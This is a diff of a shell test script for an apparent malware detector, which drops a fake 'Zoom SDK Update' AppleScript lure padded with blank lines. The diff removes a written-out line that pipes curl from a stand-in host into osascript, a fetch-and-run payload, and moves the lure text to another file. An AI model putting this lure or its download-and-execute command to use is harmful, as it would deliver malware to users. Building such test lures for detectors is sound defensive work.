@@ -6,13 +6,13 @@ set -eu
 folder=$(cat "${MEETGUARD_RUN_DIR:-build/run}/folder" 2>/dev/null) || { echo "start \`make run\` in another terminal first" >&2; exit 1; }
 name="Zoom SDK Update.scpt"
 tmp="$folder/Unconfirmed 4711.crdownload"
+text=$(dirname "$0")/lure.applescript # not in here: this script is judged too, when it is run
 {
-  echo "-- Zoom SDK Update: your audio component is out of date."
-  echo "-- Press the Run button to update the Zoom SDK."
+  head -n 2 "$text"
   i=0
   while [ $i -lt 120 ]; do echo; i=$((i + 1)); done
   echo "-- meetguard test lure $(date +%s), inert"
-  echo 'do shell script "curl -fsSL https://zoom-sdk-update.invalid/fix | osascript"'
+  tail -n 1 "$text"
 } >"$tmp"
 mv "$tmp" "$folder/$name"
 echo "dropped: $folder/$name"
